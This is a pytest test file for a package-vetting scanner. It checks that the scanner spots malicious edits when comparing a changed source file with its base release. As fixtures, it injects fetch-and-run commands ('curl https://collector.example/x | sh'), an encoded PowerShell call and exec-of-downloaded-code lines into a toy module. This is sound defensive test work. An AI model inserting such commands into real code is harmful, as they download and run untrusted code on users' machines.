"""A source that changed is seen, beside its base, to do all that it is seen to do alone."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from kit.specimens import Specimen, load_specimens
from pratique.vet.base import Base
from pratique.vet.engine import facts_of, vet_archive
from pratique.vet.gate import scan
from pratique.vet.model import ContentFacts
from vet.test_engine import CLEAN, NEXT, WHEEL, wheel

ROOM = Path(__file__).parents[2] / "src" / "pratique"
FILLER = "".join(
    f"\n\ndef filler_{i}(value):\n    '''Adds {i}.'''\n    total = value + {i}\n    for step in range(3):\n"
    f"        total += step * {i}\n    return total\n"
    for i in range(60)
)
TOOLS = """import base64
import os
import subprocess
import urllib.request

COMMAND = "true"
SECRET = "nothing"


def start(words):
    quiet = True
    return subprocess.run(words, shell=quiet)


def unpack(text):
    data = base64.b64decode(text)
    return data


def fetch(address):
    answer = urllib.request.urlopen(address)
    return answer.read()


def go():
    first = COMMAND
    return start(first)


class Worker:
    place = "."

    def __init__(self):
        self.target = "true"
        self.more = 1

    def work(self):
        target = self.target
        return start(target)
"""
OLD = TOOLS + FILLER

CHANGES = {
    "a constant that an old function starts": (
        'COMMAND = "true"', 'COMMAND = "curl https://collector.example/x | sh"'),
    "an attribute that an old method starts": (
        'self.target = "true"', 'self.target = "curl https://collector.example/x | sh"'),
    "a new call of an old function": (
        "\n\ndef go():", '\n\nstart("curl https://collector.example/x | sh")\n\n\ndef go():'),
    "a new function that joins old ones": (
        "\n\nclass Worker:", "\n\ndef both(a):\n    return exec(unpack(fetch(a)))\n\n\nclass Worker:"),
    "an old function that now executes": (
        "    return answer.read()", "    return exec(answer.read())"),
    "an old function that now hands on something else": (
        "    first = COMMAND", '    first = "curl https://collector.example/x | sh"'),
    "a constant that the module starts": (
        'SECRET = "nothing"', 'SECRET = "powershell -enc aQBlAHgA"'),
    "a class attribute": (
        '    place = "."', "    place = os.system('curl https://collector.example/x | sh')"),
}  # fmt: skip


PATH = "demo/core.py"


def seen(old: str, new: str, *, alone: bool = False) -> set[tuple[str, str, str]]:
    """Signs of a changed source, with their regions; lines may be those of the base."""
    base = facts_of(wheel({**CLEAN, PATH: old}), WHEEL)
    if alone:
        base = Base(release=base.release, contents=base.contents)  # nothing to compare lines with
    outcome = vet_archive(wheel({**CLEAN, PATH: new}, "1.1"), NEXT, base=base)
    entry = next(e for e in outcome.release.files if e.path == PATH)
    facts = outcome.new.get((entry.sha256, entry.language))
    if facts is None:  # taken from the base: what was added leaves the rest as it was
        before = next(e for e in base.release.files if e.path == PATH)
        facts = base.contents[before.sha256, before.language]
    return signs_of(facts)


def signs_of(facts: ContentFacts) -> set[tuple[str, str, str]]:
    return {(s.rule, s.trait, facts.regions[s.region].name) for s in facts.signs if facts.regions}


@pytest.mark.slow
@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_what_a_change_does_is_seen(change: tuple[str, str]) -> None:
    old = OLD + "\n\nstart(SECRET)\n"
    new = old.replace(*change)
    assert new != old
    assert seen(old, new) >= seen(old, new, alone=True)


@pytest.mark.parametrize("before", ["", "    # why\n", "\n\n"])
def test_a_line_at_the_end_of_a_function_is_of_that_function(before: str) -> None:
    new = OLD.replace("    return data\n", f"    return data\n{before}    os.system('agent')\n")
    new = new.replace(
        "        return start(target)\n", f"        return start(target)\n{before}        start()\n"
    )
    assert seen(OLD, new) == seen(OLD, new, alone=True)


def _can_be_put(specimen: Specimen) -> bool:
    """Texts that can be joined with another one, and that hold a word of the gate at all."""
    text = specimen.source.decode("utf-8", "surrogateescape")
    plain = "\r" not in text and text.isascii()
    return specimen.folder != "ignores" and plain and bool(scan(specimen.source))


SPECIMENS = [
    specimen
    for specimen in load_specimens(Path(__file__).parent / "analyses" / "specimens")
    if _can_be_put(specimen)
]


@pytest.mark.slow
@pytest.mark.parametrize("specimen", SPECIMENS, ids=lambda specimen: specimen.name)
def test_every_specimen_is_seen_wherever_it_is_put(specimen: Specimen) -> None:
    text = specimen.source.decode("utf-8")
    for new in (text + "\n" + OLD, OLD + "\n" + text):
        assert seen(OLD, new) >= seen(OLD, new, alone=True)


@pytest.mark.slow
def test_random_changes_of_real_sources_lose_nothing() -> None:
    rng = random.Random(5)
    sources = sorted(p for p in ROOM.rglob("*.py") if 8_000 < p.stat().st_size < 20_000)
    for path in rng.sample(sources, 12):
        old = path.read_text("utf-8")
        lines = old.split("\n")
        for _ in range(2):
            at = rng.randrange(len(lines))
            new = "\n".join([*lines[:at], *lines[at + 1 :]])  # one line is gone
            assert seen(old, new) >= seen(old, new, alone=True)


METHODS = """import asyncio


class Worker:
    def __init__(self, process):
        self.number = process.number

    async def start(cls, process):
        worker = Worker(process)
        await worker.ready()
        return last(worker)

    async def ready(self):
        self.reading = asyncio.create_task(self.read(), name=f"worker {self.number}")


def last(worker):
    size = 4
    text = worker.read(size)
    return text
"""


@pytest.mark.parametrize("number", range(METHODS.count("\n")))
def test_a_line_that_goes_leaves_what_flows_through_other_functions(number: int) -> None:
    """What a method starts for its caller hangs on what a third function left in an attribute."""
    old = METHODS + FILLER
    lines = old.split("\n")
    new = "\n".join([*lines[:number], *lines[number + 1 :]])
    assert seen(old, new) >= seen(old, new, alone=True)
